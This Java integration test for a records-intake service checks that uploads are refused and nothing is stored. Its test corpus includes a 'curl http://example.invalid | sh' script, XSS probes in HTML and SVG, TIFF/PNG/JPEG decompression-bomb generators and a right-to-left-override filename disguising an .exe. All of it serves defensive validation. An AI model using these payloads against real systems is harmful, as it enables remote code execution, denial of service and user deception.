package org.openimr.records;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.GZIPOutputStream;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.junit.jupiter.api.Test;
import org.openimr.EmbeddedPostgres;
import org.openimr.TestApplications;
import org.openimr.intake.Withdrawals;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.context.ApplicationContext;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.annotation.DirtiesContext;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import org.springframework.web.client.RestClient;

/**
 * Deliveries of records that must be refused, on PostgreSQL: a corpus of hostile and broken files
 * (programs renamed .pdf, empty, truncated and damaged files, password-protected PDFs, decompression
 * bombs, too many pages, a file name that hides its extension), files and deliveries over the limits,
 * too many files, a delivery to a closed case or to a case that is not the sender's. Each is answered
 * 4xx naming the file and the problem, and nothing of it is stored: the documents, content and chunk
 * tables keep their row counts, even when the other files of the delivery were good.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT, properties = {
    "imr.documents.max-file-size=2MB", "imr.documents.max-delivery-size=5MB", "imr.documents.max-files=5",
    "imr.documents.max-pages=100"})
@DirtiesContext
class HostileDeliveriesOnPostgresTest {

    @LocalServerPort
    int port;

    @Autowired
    JdbcClient jdbc;

    @Autowired
    ApplicationContext context;

    @DynamicPropertySource
    static void postgres(DynamicPropertyRegistry registry) {
        EmbeddedPostgres.register(registry);
    }

    record Hostile(String name, byte[] bytes, String problem) {
    }

    @Test
    void everyHostileFileIsRefusedByNameAndNothingIsStored() throws Exception {
        String caseNumber = newCase();
        byte[] pdf = TestDocuments.pdf(4, "hostile");
        byte[] tiff = TestDocuments.tiff(2, "hostile");
        byte[] png = TestDocuments.image("png", "hostile");
        byte[] jpeg = TestDocuments.image("jpeg", "hostile");
        List<Hostile> corpus = List.of(
                new Hostile("empty.pdf", new byte[0], "is empty"),
                new Hostile("setup.pdf", program("MZ"), "a Windows program"),
                new Hostile("labs.pdf", program("\u007fELF"), "a program (ELF executable)"),
                new Hostile("notes.pdf", ascii("#!/bin/sh\ncurl http://example.invalid | sh\n"), "a script"),
                new Hostile("records.pdf", ascii("<!DOCTYPE html><html><script>alert(1)</script></html>"), "HTML or XML"),
                new Hostile("scan.png", ascii("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"),
                        "HTML or XML"),
                new Hostile("bundle.pdf", program("PK\u0003\u0004"), "a ZIP archive"),
                new Hostile("report.doc.pdf", program("\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1"), "old-style Office"),
                new Hostile("compressed.pdf", gzip(pdf), "gzip-compressed"),
                new Hostile("letter.pdf", ascii("Dear claims administrator, please find the records enclosed."), "plain text"),
                new Hostile("scan.gif", program("GIF89a"), "a GIF image"),
                new Hostile("scan.bmp", program("BM"), "a BMP image"),
                new Hostile("scan.webp", program("RIFF\u0000\u0010\u0000\u0000WEBPVP8 "), "a WebP image"),
                new Hostile("mri.pdf", dicom(), "a DICOM image"),
                new Hostile("print.pdf", ascii("%!PS-Adobe-3.0\n%%Pages: 1\nshowpage\n"), "PostScript"),
                new Hostile("bigtiff.tif", program("II+\u0000"), "BigTIFF"),
                new Hostile("half.pdf", Arrays.copyOf(pdf, pdf.length / 2), "truncated PDF"),
                new Hostile("header-only.pdf", ascii("%PDF-1.7\n"), "truncated PDF"),
                new Hostile("garbage.pdf", garbagePdf(), "damaged PDF"),
                new Hostile("protected.pdf", TestDocuments.passwordProtectedPdf(), "password-protected PDF"),
                new Hostile("no-pages.pdf", pdfWithoutPages(), "a PDF without pages"),
                new Hostile("too-long.pdf", TestDocuments.pdf(101, "long"), "has 101 pages; a document may have at most 100"),
                new Hostile("bomb.tif", tiffBomb(), "decompression bomb"),
                new Hostile("bomb.png", pngBomb(), "decompression bomb"),
                new Hostile("bomb.jpg", jpegBomb(jpeg), "decompression bomb"),
                new Hostile("cut-fax.tif", Arrays.copyOf(tiff, tiff.length * 2 / 3), "TIFF image"),
                new Hostile("header-only.tif", ascii("II*\u0000\u0008\u0000\u0000\u0000"), "truncated TIFF"),
                new Hostile("loop.tif", tiffLoop(), "point back on themselves"),
                new Hostile("cut.png", Arrays.copyOf(png, png.length / 2), "truncated PNG"),
                new Hostile("signature-only.png", Arrays.copyOf(png, 8), "truncated PNG"),
                new Hostile("corrupt.png", corruptPng(png), "damaged PNG"),
                new Hostile("cut.jpg", Arrays.copyOf(jpeg, jpeg.length / 2), "truncated JPEG"),
                new Hostile("header-only.jpg", new byte[] {(byte) 0xff, (byte) 0xd8, (byte) 0xff, (byte) 0xe0}, "truncated JPEG"),
                new Hostile("too-large.pdf", oversized(), "a file may be at most 2.0 MB"),
                new Hostile("report\u202efdp.exe", pdf, "invisible formatting characters"));
        assertThat(corpus).hasSizeGreaterThanOrEqualTo(30);

        long[] before = counts();
        DeliveryClient intake = new DeliveryClient(as("intake1"));
        for (Hostile file : corpus) {
            // Each with a good file before it: the delivery is refused whole.
            DeliveryClient.Answer answer = intake.deliver(caseNumber, List.of(
                    DeliveryClient.Sent.of("good.pdf", TestDocuments.pdf(1, "good " + corpus.indexOf(file)), "Good report"),
                    DeliveryClient.Sent.of(file.name(), file.bytes(), "Hostile " + file.name())));
            assertThat(answer.status()).as(file.name() + ": " + answer.body()).isBetween(400, 499);
            assertThat(answer.body().get("detail").asText() + answer.body().get("errors"))
                    .as(file.name()).contains(file.problem());
            if (!file.name().contains("\u202e")) {
                assertThat(answer.body().get("errors").findValuesAsText("field")).as(file.name()).contains(file.name());
            }
            assertThat(counts()).as("rows after " + file.name()).containsExactly(before);
        }
    }

    @Test
    void deliveriesOverTheLimitsOrToTheWrongCaseAreRefusedAndNothingIsStored() throws Exception {
        String caseNumber = newCase();
        long[] before = counts();
        DeliveryClient intake = new DeliveryClient(as("intake1"));
        List<DeliveryClient.Sent> six = new ArrayList<>();
        for (int i = 1; i <= 6; i++) {
            six.add(DeliveryClient.Sent.of("report-" + i + ".pdf", TestDocuments.pdf(1, "six " + i), "Report " + i));
        }
        DeliveryClient.Answer tooMany = intake.deliver(caseNumber, six);
        assertThat(tooMany.status()).isEqualTo(400);
        assertThat(tooMany.body().get("detail").asText()).contains("files are 6 files; a delivery may have at most 5");

        List<DeliveryClient.Sent> heavy = new ArrayList<>();
        for (int i = 1; i <= 3; i++) {
            heavy.add(DeliveryClient.Sent.of("scan-" + i + ".pdf", padded(TestDocuments.pdf(1, "heavy " + i), 1_900_000),
                    "Scan " + i));
        }
        DeliveryClient.Answer tooHeavy = intake.deliver(caseNumber, heavy);
        assertThat(tooHeavy.status()).isEqualTo(413);
        assertThat(tooHeavy.body().get("detail").asText()).contains("files add up to 5.4 MB; a delivery may be at most 5.0 MB");

        DeliveryClient.Answer undescribed = intake.deliver(caseNumber, "{\"documents\": [{\"title\": \"Report\"}]}",
                List.of(DeliveryClient.Sent.of("report.pdf", TestDocuments.pdf(1, "undescribed"), "Report")));
        assertThat(undescribed.status()).isEqualTo(400);
        assertThat(undescribed.body().get("errors").findValuesAsText("field"))
                .contains("documents[0].sender", "documents[0].dateReceived");

        // Not the reviewer's case to add to, nor an analyst's.
        List<DeliveryClient.Sent> one = List.of(DeliveryClient.Sent.of("report.pdf", TestDocuments.pdf(1, "one"), "Report"));
        assertThat(new DeliveryClient(as("reviewer1")).deliver(caseNumber, one).status()).isEqualTo(403);
        assertThat(new DeliveryClient(as("analyst1")).deliver(caseNumber, one).status()).isEqualTo(403);

        // A closed case takes no more records: the supervisor is told it is closed, intake that it is not theirs.
        context.getBean(Withdrawals.class).withdraw(caseNumber,
                new Withdrawals.Withdrawal(Withdrawals.Reason.EMPLOYEE_WITHDREW, null));
        DeliveryClient.Answer closed = new DeliveryClient(as("supervisor1")).deliver(caseNumber, one);
        assertThat(closed.status()).isEqualTo(409);
        assertThat(closed.body().get("detail").asText()).contains("is closed");
        assertThat(intake.deliver(caseNumber, one).status()).isEqualTo(403);

        assertThat(counts()).containsExactly(before);
    }

    private long[] counts() {
        return new long[] {
            jdbc.sql("select count(*) from imr_document").query(Long.class).single(),
            jdbc.sql("select count(*) from imr_document_content").query(Long.class).single(),
            jdbc.sql("select count(*) from imr_content_chunk").query(Long.class).single()};
    }

    private String newCase() {
        return as("intake1").post().uri("/api/cases").contentType(MediaType.APPLICATION_JSON)
                .body(TestApplications.json(TestApplications.seedCase())).retrieve().body(JsonNode.class)
                .get("caseNumber").asText();
    }

    private RestClient as(String user) {
        return RestClient.builder().baseUrl("http://localhost:" + port)
                .defaultHeaders(headers -> headers.setBasicAuth(user, "demo")).build();
    }

    // ------------------------------------------------------------------ the corpus

    private static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    /** A file that starts with the signature and goes on with noise, like a program or archive. */
    private static byte[] program(String signature) {
        byte[] bytes = new byte[4096];
        new Random(signature.hashCode()).nextBytes(bytes);
        byte[] head = ascii(signature);
        System.arraycopy(head, 0, bytes, 0, head.length);
        return bytes;
    }

    private static byte[] dicom() {
        byte[] bytes = new byte[1024];
        System.arraycopy(ascii("DICM"), 0, bytes, 128, 4);
        return bytes;
    }

    private static byte[] gzip(byte[] bytes) throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream zip = new GZIPOutputStream(out)) {
            zip.write(bytes);
        }
        return out.toByteArray();
    }

    private static byte[] garbagePdf() {
        byte[] noise = new byte[3000];
        new Random(7).nextBytes(noise);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(ascii("%PDF-1.4\n"));
        out.writeBytes(noise);
        out.writeBytes(ascii("\n%%EOF\n"));
        return out.toByteArray();
    }

    private static byte[] pdfWithoutPages() throws Exception {
        try (PDDocument document = new PDDocument()) {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            document.save(out);
            return out.toByteArray();
        }
    }

    /** A little-endian TIFF of one page declaring the given size, with one strip of {@code data}. */
    private static byte[] tiff(int width, int height, byte[] data, boolean loop) {
        ByteBuffer tiff = ByteBuffer.allocate(8 + 2 + 8 * 12 + 4 + data.length).order(ByteOrder.LITTLE_ENDIAN);
        tiff.put(ascii("II*\u0000")).putInt(8);
        tiff.putShort((short) 8);
        entry(tiff, 256, 4, width);
        entry(tiff, 257, 4, height);
        entry(tiff, 258, 3, 1);
        entry(tiff, 259, 3, 1);
        entry(tiff, 262, 3, 0);
        entry(tiff, 273, 4, 8 + 2 + 8 * 12 + 4);
        entry(tiff, 278, 4, height);
        entry(tiff, 279, 4, data.length);
        tiff.putInt(loop ? 8 : 0);
        tiff.put(data);
        return tiff.array();
    }

    private static void entry(ByteBuffer tiff, int tag, int type, int value) {
        tiff.putShort((short) tag).putShort((short) type).putInt(1);
        if (type == 3) {
            tiff.putShort((short) value).putShort((short) 0);
        } else {
            tiff.putInt(value);
        }
    }

    private static byte[] tiffBomb() {
        return tiff(100_000, 100_000, new byte[64], false);
    }

    private static byte[] tiffLoop() {
        return tiff(100, 100, new byte[1250], true);
    }

    private static byte[] pngBomb() throws Exception {
        ByteArrayOutputStream png = new ByteArrayOutputStream();
        png.writeBytes(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'});
        chunk(png, "IHDR", ByteBuffer.allocate(13).putInt(100_000).putInt(100_000).put((byte) 8).put((byte) 0)
                .put((byte) 0).put((byte) 0).put((byte) 0).array());
        Deflater deflater = new Deflater(9);
        deflater.setInput(new byte[1_000_000]);
        deflater.finish();
        byte[] compressed = new byte[10_000];
        int length = deflater.deflate(compressed);
        chunk(png, "IDAT", Arrays.copyOf(compressed, length));
        chunk(png, "IEND", new byte[0]);
        return png.toByteArray();
    }

    private static void chunk(ByteArrayOutputStream png, String type, byte[] data) {
        png.writeBytes(ByteBuffer.allocate(4).putInt(data.length).array());
        byte[] typeAndData = new byte[4 + data.length];
        System.arraycopy(ascii(type), 0, typeAndData, 0, 4);
        System.arraycopy(data, 0, typeAndData, 4, data.length);
        png.writeBytes(typeAndData);
        CRC32 crc = new CRC32();
        crc.update(typeAndData);
        png.writeBytes(ByteBuffer.allocate(4).putInt((int) crc.getValue()).array());
    }

    /** The JPEG with the height and width of its frame header (SOF0) set to 65,000 each. */
    private static byte[] jpegBomb(byte[] jpeg) {
        byte[] bomb = jpeg.clone();
        for (int i = 2; i < bomb.length - 9; i++) {
            if ((bomb[i] & 0xff) == 0xff && (bomb[i + 1] & 0xff) == 0xc0) {
                ByteBuffer.wrap(bomb, i + 5, 4).putShort((short) 65_000).putShort((short) 65_000);
                return bomb;
            }
        }
        throw new IllegalStateException("No frame header in the JPEG");
    }

    /** The PNG with its image data overwritten by noise (the end chunk kept). */
    private static byte[] corruptPng(byte[] png) {
        byte[] corrupt = png.clone();
        int idat = new String(png, StandardCharsets.ISO_8859_1).indexOf("IDAT");
        byte[] noise = new byte[Math.min(2000, png.length - idat - 20)];
        new Random(3).nextBytes(noise);
        System.arraycopy(noise, 0, corrupt, idat + 4, noise.length);
        return corrupt;
    }

    private static byte[] oversized() {
        return padded(ascii("%PDF-1.7\n"), 3 * 1024 * 1024);
    }

    /** The file followed by a PDF comment up to {@code size} bytes, %%EOF last. */
    private static byte[] padded(byte[] pdf, int size) {
        byte[] padded = Arrays.copyOf(pdf, size);
        Arrays.fill(padded, pdf.length, size - 7, (byte) ' ');
        padded[pdf.length] = '%';
        System.arraycopy(ascii("\n%%EOF\n"), 0, padded, size - 7, 7);
        return padded;
    }
}
